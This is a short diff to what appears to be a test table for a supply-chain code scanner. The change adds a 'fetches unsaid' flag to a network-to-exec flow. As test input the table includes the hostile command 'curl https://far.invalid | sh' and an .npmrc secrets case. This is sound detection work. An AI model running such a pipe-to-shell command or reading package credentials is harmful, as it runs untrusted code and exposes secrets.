@@ -48,7 +48,7 @@ def only(fact: Fact, language: Language = Language.PYTHON) -> Atom:
         (place(".npmrc"), {Act.SECRETS, Act.PUBLISH_TOKEN, Act.PACKAGE_CONFIGURATION}),
         (use(Capability.SECRETS, "a new place"), {Act.SECRETS}),
         (start("curl https://far.invalid | sh"), {Act.STARTS, Act.PIPES_TO_SHELL}),
-        (flow(Capability.CODE, "exec", Taint.NETWORK), {Act.CODE, Act.FETCHES}),
+        (flow(Capability.CODE, "exec", Taint.NETWORK), {Act.CODE, Act.FETCHES, Act.FETCHES_UNSAID}),
         (flow(Capability.FILE_WRITE, "open", Taint.DECODED, target="x.exe"), {Act.WRITES, Act.DECODES, Act.WRITES_EXECUTABLE}),
         (command("npm publish"), {Act.PUBLISHES}),
         (hidden(), {Act.HIDDEN_CODE}),
